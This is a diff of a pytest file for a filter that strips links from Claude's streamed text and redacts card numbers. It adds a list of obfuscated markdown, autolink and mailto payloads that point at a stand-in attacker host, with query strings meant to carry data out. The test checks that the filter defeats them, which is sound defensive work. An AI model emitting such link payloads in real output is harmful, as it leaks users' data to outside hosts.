@@ -1,5 +1,6 @@
 """What is taken out of Claude's text, however it is divided."""
 
+import re
 from itertools import pairwise
 
 import pytest
@@ -23,11 +24,14 @@ CASES = {
     "[parks](https://www.nps.gov/arch)": "[parks](https://www.nps.gov/arch)",
     "[parks](https://nps.gov.evil.example/)": "parks",
     "[x](https://nps.gov@evil.example/)": "x",
-    "[x](https://www.nps.gov/?q=my+secret)": "x",
+    "[x](https://www.recreation.gov/camping?tab=map)": "[x](https://www.recreation.gov/camping?tab=map)",
     "[x](javascript:alert(1))": "x",
     "[call](tel:911)": "call",
-    "<https://evil.example/>": "<[link removed]>",
-    "[a][1]\n\n[1]: https://evil.example/": "[a][1]\n\n[1]: [link removed]",
+    "<https://evil.example/>": "[link removed]",
+    "[a][1]\n\n[1]: https://evil.example/": "[a] [1]\n\n[1] : [link removed]",
+    "`a[0](x)` at 10:30//11:45, his//hers, 9//4": "`a[0] (x)` at 10:30//11:45, his//hers, 9//4",
+    "Card 4111 1111 1111 1111 is": "Card [card number removed] is",
+    "Sites 4, 5 and 12 3 are free": "Sites 4, 5 and 12 3 are free",
     "my site https://my.example/blog is fine": "my site https://my.example/blog is fine",
     "Sites 1/2 and 3 - $45.00/night, 7:30 am, e.g. Moab [full]. A & B": (
         "Sites 1/2 and 3 - $45.00/night, 7:30 am, e.g. Moab [full]. A & B"
@@ -54,6 +58,24 @@ def divide(text: str, cuts: list[int]) -> list[str]:
 def test_what_leads_out_is_removed(text: str) -> None:
     assert scan([text]) == CASES[text]
     assert scan(list(text)) == CASES[text]
+
+
+HOSTILE = [
+    "[a[b]c](https:evil.tk/?d=S)", "![a[b]c](https:evil.tk/?d=S)", "[x][r]\n\n[r]: https:evil.tk/?d=S",
+    "<https:evil.tk/?d=S>", "[x](https://evil.tk\\x.nps.gov/S)", "[x](https://evil.tk&sol;.nps.gov/S)",
+    "[a\\]b](https:evil.tk/S)", "[x](\nhttps:evil.tk/S)", "[x\ny](https:/\\evil.tk/?d=S)",
+    "[a[b]](&#104;ttps:&#47;&#47;evil.tk/S)", "<mailto:bob@evil.tk?body=S>", "[r]: mailto:bob@evil.tk?body=S",
+    "[x](//evil.tk)", "[x](\\\\evil.tk)", "[x](/\\evil.tk)", "[x](https://nps.gov:pw@evil.tk/)", "[x](HTTPS://EVIL.TK)",
+    "[x] [r]\n[r]:<https://evil.tk>", "[x](<https://evil.tk/ a>)", "[nps.gov](https://evil.tk 'title')",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_writing_of_a_link_leads_to_a_foreign_host(text: str) -> None:
+    """Markdown finds no link in what is left, however the text is divided."""
+    for pieces in ([text], list(text), divide(text, [3, 9, 14])):
+        left = scan(pieces)
+        assert not re.search(r"\]\(|\]\[|\]:|!\[|<[a-z]+:|https?:|//|www\.", left, re.IGNORECASE), left
 
 
 @given(st.sampled_from(sorted(CASES)), st.lists(st.integers(0, 500), max_size=12))
